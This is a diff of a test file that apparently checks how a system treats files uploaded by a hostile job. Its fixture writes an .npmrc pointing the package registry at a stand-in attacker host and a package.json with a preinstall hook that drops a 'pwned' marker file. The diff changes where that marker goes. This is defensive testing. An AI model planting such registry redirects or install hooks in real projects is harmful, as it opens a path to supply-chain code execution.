@@ -371,7 +371,7 @@ describe.concurrent('what a hostile job uploads', () => {
       'files that nobody knows',
       (at) => {
         writeFileSync(join(at, '.npmrc'), 'registry=http://evil.example')
-        writeFileSync(join(at, 'package.json'), '{"scripts":{"preinstall":"touch /tmp/pwned"}}')
+        writeFileSync(join(at, 'package.json'), '{"scripts":{"preinstall":"touch pwned"}}')
       },
     ],
   ]
